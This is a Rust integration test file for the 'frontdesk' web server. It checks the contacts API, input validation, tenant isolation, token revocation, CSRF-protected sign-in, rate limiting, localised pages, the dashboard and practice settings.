//! The web server through the real binary: `frontdesk serve` on a temporary database, driven
//! over HTTP. The JSON API's contract, bad input, tenant isolation, sign-in, CSRF, the inbox
//! page and its live updates.

mod common;
use common::{
    Desk, RUIZ, Server, agent, form_csrf, page, post_form, set_cookie, sign_in, signin_csrf, submit,
};

use std::io::{BufRead, BufReader};
use std::time::Duration;

use serde_json::{Value, json};

/// (status, JSON body) of a request with a bearer token.
fn call(method: &str, url: &str, token: Option<&str>, body: Option<&str>) -> (u16, Value) {
    let a = agent();
    let auth = token.map(|t| format!("Bearer {t}"));
    let resp = match (method, body) {
        ("GET", _) => {
            let mut r = a.get(url);
            if let Some(h) = &auth {
                r = r.header("Authorization", h);
            }
            r.call()
        }
        ("DELETE", _) => {
            let mut r = a.delete(url);
            if let Some(h) = &auth {
                r = r.header("Authorization", h);
            }
            r.call()
        }
        (_, b) => {
            let mut r = a.post(url).header("Content-Type", "application/json");
            if let Some(h) = &auth {
                r = r.header("Authorization", h);
            }
            r.send(b.unwrap_or("{}"))
        }
    }
    .unwrap();
    let status = resp.status().as_u16();
    let text = resp.into_body().read_to_string().unwrap_or_default();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

/// Records a contact through the API: (status, body).
fn record(server: &Server, token: &str, body: &str) -> (u16, Value) {
    call(
        "POST",
        &format!("{}/api/v1/contacts", server.url),
        Some(token),
        Some(body),
    )
}

fn token(desk: &Desk, practice: Option<&str>, member: &str) -> String {
    let mut args = vec![];
    if let Some(p) = practice {
        args.extend(["--practice", p]);
    }
    args.extend(["token", "create", "--member", member]);
    desk.ok(&args).trim().to_string()
}

const MARCOS: &str = r#"{"client":"acme","channel":"voicemail","from":"+34600111222","at":"2026-12-01T09:12:00+01:00","body":"Hola, soy Marcos. Llámame."}"#;

/// The same voicemail long ago, so that answering it "now" from a page comes after it.
const MARCOS_EARLIER: &str = r#"{"client":"acme","channel":"voicemail","from":"+34600111222","at":"2025-12-02T09:12:00+01:00","body":"Hola, soy Marcos. Llámame."}"#;

#[test]
fn the_api_records_contacts_and_returns_the_clis_decision_object() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    let tok = token(&desk, None, "ana");
    let server = Server::start(&desk);
    let (status, _) = call("GET", &format!("{}/healthz", server.url), None, None);
    assert_eq!(status, 200);
    let dry = desk.json(&[
        "decide",
        "--client",
        "acme",
        "--channel",
        "voicemail",
        "--from",
        "+34600111222",
        "--at",
        "2026-12-01T09:12:00+01:00",
        "--body",
        "Hola, soy Marcos. Llámame.",
    ]);
    let (status, recorded) = record(&server, &tok, MARCOS);
    assert_eq!(status, 201, "{recorded}");
    let id = recorded["id"].as_i64().unwrap();
    let mut without_id = recorded.clone();
    without_id.as_object_mut().unwrap().remove("id");
    assert_eq!(without_id, dry, "the API and the CLI decide alike");
    let (status, got) = call(
        "GET",
        &format!("{}/api/v1/contacts/{id}", server.url),
        Some(&tok),
        None,
    );
    assert_eq!(status, 200);
    assert_eq!(got["decision"], "ask_topic");
    assert_eq!(got["client"], "acme");
    assert_eq!(got["answered_at"], Value::Null);
    let (_, inbox) = call(
        "GET",
        &format!("{}/api/v1/inbox?at=2026-12-01T10:00:00Z", server.url),
        Some(&tok),
        None,
    );
    assert_eq!(inbox["open"], 1);
    assert_eq!(inbox["contacts"][0]["id"], id);
    // The CLI sees what the API recorded, in the same database.
    let cli_inbox = desk.json(&["inbox", "--at", "2026-12-01T10:00:00Z"]);
    assert_eq!(cli_inbox["contacts"], inbox["contacts"]);
    let (status, answered) = call(
        "POST",
        &format!("{}/api/v1/contacts/{id}/reply", server.url),
        Some(&tok),
        Some(r#"{"at":"2026-12-01T10:30:00+01:00"}"#),
    );
    assert_eq!(status, 200, "{answered}");
    assert_eq!(answered["answered_at"], "2026-12-01T09:30:00Z");
    let (status, again) = call(
        "POST",
        &format!("{}/api/v1/contacts/{id}/reply", server.url),
        Some(&tok),
        Some("{}"),
    );
    assert_eq!(
        (status, again["error"]["code"].clone()),
        (409, json!("conflict"))
    );
    // The OpenAPI document describes these endpoints.
    let (status, doc) = call(
        "GET",
        &format!("{}/api/openapi.json", server.url),
        None,
        None,
    );
    assert_eq!(status, 200);
    assert!(doc["openapi"].as_str().unwrap().starts_with("3."));
    for path in ["/api/v1/contacts", "/api/v1/contacts/{id}", "/api/v1/inbox"] {
        assert!(doc["paths"][path].is_object(), "{path} missing from {doc}");
    }
    assert!(doc["components"]["schemas"]["DecisionObject"].is_object());
}

#[test]
fn bad_requests_get_a_clear_error_and_write_nothing() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    let tok = token(&desk, None, "ana");
    let server = Server::start(&desk);
    let url = format!("{}/api/v1/contacts", server.url);
    let big = format!(
        r#"{{"client":"acme","channel":"email","from":"a@b.c","body":"{}"}}"#,
        "x".repeat(70 * 1024)
    );
    let cases: Vec<(Option<&str>, String, u16, &str, &str)> = vec![
        (Some(&tok), "{not json".into(), 400, "invalid_json", ""),
        (
            Some(&tok),
            r#"{"client":"acme","channel":"call","from":"x","extra":1}"#.into(),
            422,
            "invalid_json",
            "extra",
        ),
        (
            Some(&tok),
            r#"{"client":"acme","channel":"call"}"#.into(),
            422,
            "invalid_json",
            "from",
        ),
        (
            Some(&tok),
            r#"{"client":7,"channel":"call","from":"x"}"#.into(),
            422,
            "invalid_json",
            "client",
        ),
        (
            Some(&tok),
            r#"{"client":"acme","channel":"fax","from":"x"}"#.into(),
            422,
            "invalid",
            "fax",
        ),
        (
            Some(&tok),
            r#"{"client":"nobody","channel":"call","from":"x"}"#.into(),
            422,
            "invalid",
            "nobody",
        ),
        (
            Some(&tok),
            r#"{"client":"acme","channel":"call","from":"x","at":"yesterday"}"#.into(),
            422,
            "invalid",
            "yesterday",
        ),
        (
            Some(&tok),
            r#"{"client":"acme","channel":"call","from":" "}"#.into(),
            422,
            "invalid",
            "from",
        ),
        (Some(&tok), big, 413, "too_large", ""),
        (None, MARCOS.into(), 401, "unauthorized", "Bearer"),
        (
            Some("fdt_0000"),
            MARCOS.into(),
            401,
            "unauthorized",
            "unknown",
        ),
    ];
    for (auth, body, status, code, needle) in cases {
        let (got, err) = call("POST", &url, auth, Some(&body));
        assert_eq!(got, status, "{body:.80}: {err}");
        assert_eq!(err["error"]["code"], code, "{body:.80}: {err}");
        assert!(
            err["error"]["message"].as_str().unwrap().contains(needle),
            "{err}"
        );
    }
    let (_, inbox) = call(
        "GET",
        &format!("{}/api/v1/inbox", server.url),
        Some(&tok),
        None,
    );
    assert_eq!(inbox["open"], 0, "nothing was recorded");
    let (status, err) = call(
        "GET",
        &format!("{}/api/v1/inbox?limit=0", server.url),
        Some(&tok),
        None,
    );
    assert_eq!(
        (status, err["error"]["code"].clone()),
        (422, json!("invalid"))
    );
    // A revoked token stops working.
    let out = desk.json(&["token", "create", "--member", "pedro"]);
    let pedro = out["token"].as_str().unwrap().to_string();
    let (status, _) = call(
        "GET",
        &format!("{}/api/v1/inbox", server.url),
        Some(&pedro),
        None,
    );
    assert_eq!(status, 200);
    desk.ok(&[
        "token",
        "revoke",
        "--member",
        "pedro",
        &out["id"].to_string(),
    ]);
    let (status, _) = call(
        "GET",
        &format!("{}/api/v1/inbox", server.url),
        Some(&pedro),
        None,
    );
    assert_eq!(status, 401);
}

/// A second practice in the same database, with its own client and member.
const OTHER: &str = r#"[practice]
name = "Other Desk"
currency = "EUR"
language = "en"

[[members]]
handle = "olga"
name = "Olga"
email = "olga@other.example"
role = "owner"
time_zone = "Europe/London"
hours.mon = ["09:00-17:00"]

[[clients]]
handle = "zeta"
name = "Zeta Ltd"
owner = "olga"
"#;

/// Applies `OTHER` beside what the desk holds: a second tenant in the same database.
fn add_other_practice(desk: &Desk) {
    let other = desk.dir.path().join("other.toml");
    std::fs::write(&other, OTHER).unwrap();
    desk.ok(&["apply", other.to_str().unwrap()]);
}

#[test]
fn one_practice_cannot_see_or_touch_anothers_contacts() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    add_other_practice(&desk);
    let a = token(&desk, Some("Ruiz Consulting"), "ana");
    let b = token(&desk, Some("Other Desk"), "olga");
    let server = Server::start(&desk);
    let (_, recorded) = record(&server, &a, MARCOS);
    let id = recorded["id"].as_i64().unwrap();
    // B asks for A's contact in every way: not found, and nothing changes.
    let (status, _) = call(
        "GET",
        &format!("{}/api/v1/contacts/{id}", server.url),
        Some(&b),
        None,
    );
    assert_eq!(status, 404);
    let (status, _) = call(
        "POST",
        &format!("{}/api/v1/contacts/{id}/reply", server.url),
        Some(&b),
        Some("{}"),
    );
    assert_eq!(status, 404);
    let (_, inbox) = call(
        "GET",
        &format!("{}/api/v1/inbox", server.url),
        Some(&b),
        None,
    );
    assert_eq!(inbox["contacts"], json!([]));
    // B cannot record for A's client either: it does not exist in B's practice.
    let (status, err) = record(&server, &b, MARCOS);
    assert_eq!(status, 422, "{err}");
    let (_, mine) = call(
        "GET",
        &format!("{}/api/v1/contacts/{id}", server.url),
        Some(&a),
        None,
    );
    assert_eq!(mine["answered_at"], Value::Null);
    // The same through the pages, with B's session.
    desk.ok_with_stdin(
        &[
            "--practice",
            "Other Desk",
            "password",
            "set",
            "--member",
            "olga",
        ],
        "olga's long password\n",
    );
    let session = sign_in(&server, "olga@other.example", "olga's long password");
    let (status, _) = page(&server, &format!("/contacts/{id}"), Some(&session));
    assert_eq!(status, 404);
}

/// The example practice, where ana can sign in with "a long enough password".
fn ana_with_password() -> Desk {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    desk.ok_with_stdin(
        &["password", "set", "--member", "ana"],
        "a long enough password\n",
    );
    desk
}

/// As `ana_with_password`, and pedro (a member) signs in with "pedro's long password".
fn ana_and_pedro() -> Desk {
    let desk = ana_with_password();
    desk.ok_with_stdin(
        &["password", "set", "--member", "pedro"],
        "pedro's long password\n",
    );
    desk
}

#[test]
fn signing_in_the_inbox_page_and_answering_with_csrf() {
    let desk = ana_with_password();
    let tok = token(&desk, None, "ana");
    let server = Server::start(&desk);
    // Not signed in: the inbox sends you to sign in.
    let (status, _) = page(&server, "/inbox", None);
    assert_eq!(status, 303);
    // A form without the matching CSRF cookie is refused.
    let resp = post_form(
        &server,
        "/signin",
        "",
        &[
            ("csrf", "x"),
            ("email", "ana@ruiz.example"),
            ("password", "a long enough password"),
        ],
    );
    assert_eq!(resp.status().as_u16(), 403);
    let session = sign_in(&server, "ANA@ruiz.example", "a long enough password");
    let cookie = resp_cookie_flags(&server);
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    record(&server, &tok, MARCOS_EARLIER);
    let (status, html) = page(&server, "/inbox", Some(&session));
    assert_eq!(status, 200);
    assert!(
        // The decision in words, not its code.
        (html.contains("Ask what it is about") || html.contains("Preguntar el tema"))
            && !html.contains("ask_topic")
            && html.contains("Hola, soy Marcos"),
        "{html}"
    );
    let (status, html) = page(&server, "/contacts/1", Some(&session));
    assert_eq!(status, 200);
    assert!(html.contains("Gracias por ponerse en contacto"), "{html}");
    let csrf = form_csrf(&html);
    let cookies = format!("fd_session={session}");
    let resp = post_form(
        &server,
        "/contacts/1/answer",
        &cookies,
        &[("csrf", "wrong")],
    );
    assert_eq!(resp.status().as_u16(), 403);
    let (_, c) = call(
        "GET",
        &format!("{}/api/v1/contacts/1", server.url),
        Some(&tok),
        None,
    );
    assert_eq!(
        c["answered_at"],
        Value::Null,
        "a refused form changes nothing"
    );
    let resp = post_form(&server, "/contacts/1/answer", &cookies, &[("csrf", &csrf)]);
    let status = resp.status().as_u16();
    assert_eq!(
        status,
        303,
        "{}",
        resp.into_body().read_to_string().unwrap()
    );
    let (_, c) = call(
        "GET",
        &format!("{}/api/v1/contacts/1", server.url),
        Some(&tok),
        None,
    );
    assert!(c["answered_at"].is_string());
    // Signing out ends the session.
    let resp = post_form(&server, "/signout", &cookies, &[("csrf", &csrf)]);
    assert_eq!(resp.status().as_u16(), 303);
    let (status, _) = page(&server, "/inbox", Some(&session));
    assert_eq!(status, 303);
}

fn resp_cookie_flags(server: &Server) -> String {
    let resp = agent()
        .get(format!("{}/signin", server.url))
        .call()
        .unwrap();
    resp.headers()
        .get("set-cookie")
        .unwrap()
        .to_str()
        .unwrap()
        .to_string()
}

#[test]
fn sign_in_is_rate_limited_and_pages_follow_the_browsers_language() {
    let desk = ana_with_password();
    let server = Server::start(&desk);
    let csrf = signin_csrf(&server);
    let attempt = |password: &str| {
        post_form(
            &server,
            "/signin",
            &format!("fd_csrf={csrf}"),
            &[
                ("csrf", &csrf),
                ("email", "ana@ruiz.example"),
                ("password", password),
            ],
        )
        .status()
        .as_u16()
    };
    for _ in 0..5 {
        assert_eq!(attempt("wrong password!"), 401);
    }
    // Even the right password is refused for a while after five failures.
    assert_eq!(attempt("a long enough password"), 429);
    for (accept, word) in [
        ("es-ES,es;q=0.9", "Iniciar sesión"),
        ("ru", "Вход"),
        ("it-IT", "Accedi"),
        ("nl;q=0.8, de;q=0.9", "Aanmelden"),
        ("fr", "Sign in"),
    ] {
        let resp = agent()
            .get(format!("{}/signin", server.url))
            .header("Accept-Language", accept)
            .call()
            .unwrap();
        let html = resp.into_body().read_to_string().unwrap();
        assert!(html.contains(word), "{accept}: {html}");
    }
}

#[test]
fn the_first_run_sets_up_a_practice_and_its_owner() {
    let desk = Desk::new();
    let server = Server::start(&desk);
    let (status, _) = page(&server, "/", None);
    assert_eq!(status, 303);
    let resp = agent().get(format!("{}/setup", server.url)).call().unwrap();
    let csrf = set_cookie(&resp, "fd_csrf").unwrap();
    let form = |zone: &str| {
        vec![
            ("csrf", csrf.clone()),
            ("practice", "Nieuwe Praktijk".to_string()),
            ("name", "Sanne de Vries".to_string()),
            ("handle", "sanne".to_string()),
            ("email", "sanne@praktijk.example".to_string()),
            ("time_zone", zone.to_string()),
            ("language", "nl".to_string()),
            ("password", "een lang wachtwoord".to_string()),
        ]
    };
    let send = |f: Vec<(&str, String)>| {
        agent()
            .post(format!("{}/setup", server.url))
            .header("Cookie", format!("fd_csrf={csrf}"))
            .send_form(f.iter().map(|(k, v)| (*k, v.as_str())))
            .unwrap()
    };
    let bad = send(form("Europe/Atlantis"));
    assert_eq!(bad.status().as_u16(), 422);
    assert!(
        bad.into_body()
            .read_to_string()
            .unwrap()
            .contains("Europe/Atlantis")
    );
    let ok = send(form("Europe/Amsterdam"));
    assert_eq!(ok.status().as_u16(), 303);
    assert!(set_cookie(&ok, "fd_session").is_some());
    let exported = desk.ok(&["export"]);
    assert!(exported.contains("Nieuwe Praktijk") && exported.contains("Europe/Amsterdam"));
    // Once set up, the setup page is closed.
    let again = send(form("Europe/Amsterdam"));
    assert_eq!(again.status().as_u16(), 303);
    assert_eq!(desk.ok(&["export"]), exported);
}

#[test]
fn the_inbox_is_told_live_when_a_contact_arrives() {
    let desk = ana_with_password();
    let tok = token(&desk, None, "ana");
    let server = Server::start(&desk);
    let session = sign_in(&server, "ana@ruiz.example", "a long enough password");
    let rx = common::events(&server, &session);
    let (status, _) = record(&server, &tok, MARCOS);
    assert_eq!(status, 201);
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    loop {
        let left = deadline.saturating_duration_since(std::time::Instant::now());
        let (line, _) = rx.recv_timeout(left).expect("an inbox event within 10 s");
        if line == "event: inbox" {
            break;
        }
    }
}

#[test]
fn the_demo_server_prints_a_sign_in_that_works() {
    let desk = Desk::new();
    let (server, before) = Server::start_with(&desk, &["--demo"]);
    let line = before
        .iter()
        .find_map(|l| l.strip_prefix("demo practice: sign in as "))
        .expect("the sign-in is printed");
    let (email, password) = line.split_once(" with password ").unwrap();
    let session = sign_in(&server, email, password);
    let (status, html) = page(&server, "/inbox", Some(&session));
    assert_eq!(status, 200);
    assert!(
        (html.contains("Ask what it is about") || html.contains("Preguntar el tema"))
            && html.contains("orbita"),
        "{html}"
    );
    // The server's clock stands at the end of the demo day, and every page says so.
    assert!(html.contains("2026-12-01 17:00 UTC"), "{html}");
    // Its main action works: a contact of that day is answered.
    let at = html.find("href=\"/contacts/").expect("a contact") + 16;
    let id: String = html[at..]
        .chars()
        .take_while(char::is_ascii_digit)
        .collect();
    let (_, contact) = page(&server, &format!("/contacts/{id}"), Some(&session));
    let resp = post_form(
        &server,
        &format!("/contacts/{id}/answer"),
        &format!("fd_session={session}"),
        &[("csrf", &form_csrf(&contact))],
    );
    assert_eq!(resp.status().as_u16(), 303, "answering a demo contact");
    let (_, contact) = page(&server, &format!("/contacts/{id}"), Some(&session));
    assert!(
        contact.contains("Answered at") || contact.contains("Respondido el"),
        "{contact}"
    );
    // Answering it again is refused on a page in the reader's language, not in JSON.
    let resp = post_form(
        &server,
        &format!("/contacts/{id}/answer"),
        &format!("fd_session={session}"),
        &[("csrf", &form_csrf(&contact))],
    );
    assert_eq!(resp.status().as_u16(), 409);
    let html = resp.into_body().read_to_string().unwrap();
    assert!(
        (html.contains("That could not be done") || html.contains("No se pudo hacer"))
            && html.contains("<html")
            && !html.contains("{\"error\""),
        "{html}"
    );
    // The demo does not touch the database given with --db.
    assert!(desk.untouched());
}

#[test]
fn a_clients_terms_are_edited_through_the_practice_file_rules() {
    let desk = ana_and_pedro();
    let server = Server::start(&desk);
    let session = sign_in(&server, "ana@ruiz.example", "a long enough password");
    let (status, html) = page(&server, "/clients/acme", Some(&session));
    assert_eq!(status, 200);
    // The standing call in words, not its RRULE.
    assert!(
        html.contains("ACME Foundation")
            && (html.contains("Weekly: Friday, 10:00") || html.contains("Semanal: viernes, 10:00"))
            && !html.contains("FREQ="),
        "{html}"
    );
    let csrf = form_csrf(&html);
    let cookies = format!("fd_session={session}");
    let terms = |notice: &str, adhoc: &str| {
        vec![
            ("csrf", csrf.clone()),
            ("adhoc_calls_per_week", adhoc.to_string()),
            ("call", "4h".to_string()),
            ("voicemail", "4h".to_string()),
            ("email", "6h".to_string()),
            ("chat", "2h".to_string()),
            ("urgent", "30m".to_string()),
            ("urgent_out_of_hours", "true".to_string()),
            ("after_hours_surcharge_pct", "75".to_string()),
            ("cancellation_notice", notice.to_string()),
        ]
    };
    let send = |form: Vec<(&str, String)>| {
        agent()
            .post(format!("{}/clients/acme", server.url))
            .header("Cookie", &cookies)
            .send_form(form.iter().map(|(k, v)| (*k, v.as_str())))
            .unwrap()
    };
    let before = desk.ok(&["export"]);
    // Refused naming the field in words, not the practice file's path.
    for (notice, adhoc, needle) in [
        ("2 days", "3", "Cancellation notice: "),
        ("48h", "many", "Ad-hoc calls a week: "),
    ] {
        let resp = send(terms(notice, adhoc));
        assert_eq!(resp.status().as_u16(), 422);
        let html = resp.into_body().read_to_string().unwrap();
        assert!(html.contains(needle), "{needle}: {html}");
        assert!(!html.contains("clients[0]"), "{html}");
        assert_eq!(
            desk.ok(&["export"]),
            before,
            "a refused form writes nothing"
        );
    }
    let resp = send(terms("48h", "3"));
    assert_eq!(resp.status().as_u16(), 303);
    let after = desk.ok(&["export"]);
    for expected in [
        "adhoc_calls_per_week = 3",
        "email = \"6h\"",
        "urgent_out_of_hours = true",
        "after_hours_surcharge_pct = 75",
        "cancellation_notice = \"48h\"",
    ] {
        assert!(after.contains(expected), "{expected} not in\n{after}");
    }
    // The standing call and everything else are kept.
    assert!(after.contains("FREQ=WEEKLY;BYDAY=FR"));
    // A member sees only their own clients and cannot change terms.
    let pedro = sign_in(&server, "pedro@ruiz.example", "pedro's long password");
    let (status, _) = page(&server, "/clients/acme", Some(&pedro));
    assert_eq!(status, 404);
    let (status, html) = page(&server, "/clients", Some(&pedro));
    assert_eq!(status, 200);
    assert!(!html.contains("ACME Foundation"));
}

#[test]
fn the_dashboard_draws_the_weeks_the_allowance_and_response_times() {
    let desk = ana_with_password();
    let tok = token(&desk, None, "ana");
    let server = Server::start(&desk);
    // Contacts in the last weeks, relative to now: the dashboard shows the last 12 weeks.
    let now = jiff::Timestamp::now();
    let ago = |days: i64, hour: i8| {
        let d = (now - jiff::SignedDuration::from_hours(24 * days))
            .to_zoned_datetime(jiff::tz::TimeZone::get("Europe/Madrid").unwrap())
            .date();
        // A Wednesday at `hour` Madrid time: inside ana's hours at 10, outside at 21.
        let wed = d
            .checked_add(
                jiff::Span::new()
                    .days((2 - i64::from(d.weekday().to_monday_zero_offset())).rem_euclid(7) - 7),
            )
            .unwrap();
        format!("{wed}T{hour:02}:00:00+01:00")
    };
    let mut ids = Vec::new();
    for (days, hour, channel) in [
        (14, 10, "call"),
        (14, 10, "call"),
        (14, 11, "call"),
        (14, 21, "email"),
        (7, 10, "email"),
    ] {
        let body = json!({"client": "acme", "channel": channel, "from": "+34600111222",
                          "at": ago(days, hour), "body": "Sobre el informe de indicadores"});
        let (status, d) = record(&server, &tok, &body.to_string());
        assert_eq!(status, 201, "{d}");
        ids.push(d["id"].as_i64().unwrap());
    }
    // Answer the first two calls two hours later (inside the 4h target).
    for id in &ids[..2] {
        let at = ago(14, 12);
        let (status, r) = call(
            "POST",
            &format!("{}/api/v1/contacts/{id}/reply", server.url),
            Some(&tok),
            Some(&json!({"at": at}).to_string()),
        );
        assert_eq!(status, 200, "{r}");
    }
    let session = sign_in(&server, "ana@ruiz.example", "a long enough password");
    let (status, html) = page(&server, "/dashboard", Some(&session));
    assert_eq!(status, 200);
    assert!(html.contains("<svg"), "{html}");
    assert!(html.contains("Contacts per week") && html.contains("Response time by channel"));
    assert!(html.contains("100% within target (2 answered)"), "{html}");
    // Three contacts are still open and all due long ago.
    assert!(html.contains("Overdue now: 3"), "{html}");
    let (status, html) = page(&server, "/clients/acme", Some(&session));
    assert_eq!(status, 200);
    // acme's allowance of two ad-hoc calls is drawn, and the week with three goes over it.
    assert!(
        html.contains("class=\"allowance\"") && html.contains("allowance 2"),
        "{html}"
    );
    let start = html.find("Ad-hoc calls per week").unwrap();
    let end = html.find("Response time by channel").unwrap();
    assert_eq!(
        html[start..end].matches("#d63638").count(),
        1,
        "exactly the week over the allowance is marked"
    );
}

/// POSTs a form with a session; returns (status, body).

#[test]
fn the_practice_file_tokens_and_absences_are_managed_in_the_browser() {
    let desk = ana_and_pedro();
    let server = Server::start(&desk);
    let session = sign_in(&server, "ana@ruiz.example", "a long enough password");
    let (status, html) = page(&server, "/settings", Some(&session));
    assert_eq!(status, 200);
    let csrf = form_csrf(&html);
    let file = desk.ok(&["export"]);
    // A bad file is refused naming the field; nothing changes.
    let bad = file.replacen("Europe/Madrid", "Europe/Atlantis", 1);
    let (status, html) = submit(
        &server,
        &session,
        "/settings",
        &[("csrf", &csrf), ("file", &bad)],
    );
    assert_eq!(status, 422);
    assert!(
        html.contains("members[0].time_zone") && html.contains("Europe/Atlantis"),
        "{html}"
    );
    assert_eq!(desk.ok(&["export"]), file);
    let renamed = file.replacen("Ruiz Consulting", "Other", 1);
    let (status, _) = submit(
        &server,
        &session,
        "/settings",
        &[("csrf", &csrf), ("file", &renamed)],
    );
    assert_eq!(status, 422);
    // A good edit is applied.
    let edited = file.replacen(
        "after_hours_surcharge_pct = 50",
        "after_hours_surcharge_pct = 60",
        1,
    );
    assert_ne!(edited, file);
    let (status, _) = submit(
        &server,
        &session,
        "/settings",
        &[("csrf", &csrf), ("file", &edited)],
    );
    assert_eq!(status, 303);
    assert!(
        desk.ok(&["export"])
            .contains("after_hours_surcharge_pct = 60")
    );
    let download = agent()
        .get(format!("{}/settings/export", server.url))
        .header("Cookie", format!("fd_session={session}"))
        .call()
        .unwrap()
        .into_body()
        .read_to_string()
        .unwrap();
    assert_eq!(download, desk.ok(&["export"]));

    // A token made in the browser works on the API, and stops when revoked.
    let (status, html) = submit(&server, &session, "/settings/tokens", &[("csrf", &csrf)]);
    assert_eq!(status, 200);
    let at = html.find("fdt_").expect("the new token is shown");
    let token = html[at..at + 68].to_string();
    let (status, _) = call(
        "GET",
        &format!("{}/api/v1/inbox", server.url),
        Some(&token),
        None,
    );
    assert_eq!(status, 200);
    let (status, _) = submit(
        &server,
        &session,
        "/settings/tokens/revoke",
        &[("csrf", &csrf), ("id", "1")],
    );
    assert_eq!(status, 303);
    let (status, _) = call(
        "GET",
        &format!("{}/api/v1/inbox", server.url),
        Some(&token),
        None,
    );
    assert_eq!(status, 401);
    let (_, html) = page(&server, "/settings", Some(&session));
    assert!(!html.contains(&token), "a token is never shown again");

    // Absences: a cover who is away at the same time is refused; a good one is added.
    let (_, html) = page(&server, "/team", Some(&session));
    assert!(
        html.contains("2026-08-03") && html.contains("pedro"),
        "{html}"
    );
    let absence = |member: &str, from: &str, until: &str, cover: &str| {
        submit(
            &server,
            &session,
            "/team/absences",
            &[
                ("csrf", &csrf),
                ("member", member),
                ("from", from),
                ("until", until),
                ("cover", cover),
            ],
        )
    };
    let before = desk.ok(&["export"]);
    let (status, html) = absence("pedro", "2026-08-10", "2026-08-14", "ana");
    assert_eq!(status, 422);
    assert!(html.contains("absent too"), "{html}");
    assert_eq!(desk.ok(&["export"]), before);
    let (status, _) = absence("pedro", "2026-12-21", "2026-12-24", "ana");
    assert_eq!(status, 303);
    let after = desk.ok(&["export"]);
    assert!(after.contains("2026-12-21"), "{after}");
    let (status, _) = submit(
        &server,
        &session,
        "/team/absences/remove",
        &[("csrf", &csrf), ("index", "1")],
    );
    assert_eq!(status, 303);
    assert_eq!(desk.ok(&["export"]), before);

    // A member cannot change the practice.
    let pedro = sign_in(&server, "pedro@ruiz.example", "pedro's long password");
    let (_, html) = page(&server, "/settings", Some(&pedro));
    let pedro_csrf = form_csrf(&html);
    let (status, _) = submit(
        &server,
        &pedro,
        "/settings",
        &[("csrf", &pedro_csrf), ("file", &edited)],
    );
    assert_eq!(status, 403);
    let (status, _) = submit(
        &server,
        &pedro,
        "/team/absences",
        &[
            ("csrf", &pedro_csrf),
            ("member", "ana"),
            ("from", "2026-12-21"),
            ("until", "2026-12-22"),
            ("cover", "pedro"),
        ],
    );
    assert_eq!(status, 403);
}

/// (status, JSON) of a PUT with a token.
fn put(url: &str, token: &str, body: &Value) -> (u16, Value) {
    let resp = agent()
        .put(url)
        .header("Authorization", format!("Bearer {token}"))
        .header("Content-Type", "application/json")
        .send(body.to_string())
        .unwrap();
    let status = resp.status().as_u16();
    let text = resp.into_body().read_to_string().unwrap_or_default();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

#[test]
fn the_api_covers_clients_terms_the_practice_file_and_the_dashboard() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    add_other_practice(&desk);
    let ana = token(&desk, Some("Ruiz Consulting"), "ana");
    let pedro = token(&desk, Some("Ruiz Consulting"), "pedro");
    let olga = token(&desk, Some("Other Desk"), "olga");
    let server = Server::start(&desk);
    let u = |path: &str| format!("{}{path}", server.url);

    let (status, clients) = call("GET", &u("/api/v1/clients"), Some(&ana), None);
    assert_eq!(status, 200);
    let handles: Vec<&str> = clients
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["handle"].as_str().unwrap())
        .collect();
    assert!(handles.contains(&"acme"), "{clients}");
    let (_, acme) = call("GET", &u("/api/v1/clients/acme"), Some(&ana), None);
    assert_eq!(acme["terms"]["adhoc_calls_per_week"], 2);
    assert_eq!(acme["terms"]["cancellation_notice"], "24h");

    // Terms: validated like the file, changed by owners and managers only.
    let mut terms = acme["terms"].clone();
    terms["email"] = json!("6h");
    terms["adhoc_calls_per_week"] = Value::Null;
    let (status, changed) = put(&u("/api/v1/clients/acme/terms"), &ana, &terms);
    assert_eq!(status, 200, "{changed}");
    assert_eq!(changed["terms"]["email"], "6h");
    assert_eq!(changed["terms"]["adhoc_calls_per_week"], Value::Null);
    let mut bad = terms.clone();
    bad["call"] = json!("soon");
    let (status, err) = put(&u("/api/v1/clients/acme/terms"), &ana, &bad);
    assert_eq!(
        (status, err["error"]["code"].clone()),
        (422, json!("invalid"))
    );
    assert!(
        err["error"]["message"].as_str().unwrap().contains("soon"),
        "{err}"
    );
    let (status, _) = put(&u("/api/v1/clients/acme/terms"), &pedro, &terms);
    assert_eq!(
        status, 404,
        "pedro (a member) does not even see ana's client"
    );
    let mut unknown = terms.clone();
    unknown["colour"] = json!("blue");
    let (status, err) = put(&u("/api/v1/clients/acme/terms"), &ana, &unknown);
    assert_eq!(
        (status, err["error"]["code"].clone()),
        (422, json!("invalid_json"))
    );

    // The practice file.
    let (_, file) = call("GET", &u("/api/v1/practice"), Some(&ana), None);
    let text = file["file"].as_str().unwrap().to_string();
    assert!(text.contains("email = \"6h\""));
    let edited = text.replacen(
        "after_hours_surcharge_pct = 50",
        "after_hours_surcharge_pct = 55",
        1,
    );
    let (status, applied) = put(&u("/api/v1/practice"), &ana, &json!({"file": edited}));
    assert_eq!(status, 200, "{applied}");
    assert!(
        desk.ok(&["--practice", "Ruiz Consulting", "export"])
            .contains("= 55")
    );
    let (status, _) = put(&u("/api/v1/practice"), &pedro, &json!({"file": edited}));
    assert_eq!(status, 403);
    let (status, _) = call("GET", &u("/api/v1/practice"), Some(&pedro), None);
    assert_eq!(status, 403, "a member does not read every client's people");
    let broken = text.replacen("Europe/Madrid", "Mars/Olympus", 1);
    let (status, err) = put(&u("/api/v1/practice"), &ana, &json!({"file": broken}));
    assert_eq!(status, 422);
    assert!(
        err["error"]["message"]
            .as_str()
            .unwrap()
            .contains("Mars/Olympus")
    );

    // Another practice's token finds none of this, and cannot overwrite it.
    let (status, _) = call("GET", &u("/api/v1/clients/acme"), Some(&olga), None);
    assert_eq!(status, 404);
    let (status, _) = put(&u("/api/v1/clients/acme/terms"), &olga, &terms);
    assert_eq!(status, 404);
    let (_, theirs) = call("GET", &u("/api/v1/practice"), Some(&olga), None);
    assert!(theirs["file"].as_str().unwrap().contains("Other Desk"));
    let (status, _) = put(&u("/api/v1/practice"), &olga, &json!({"file": edited}));
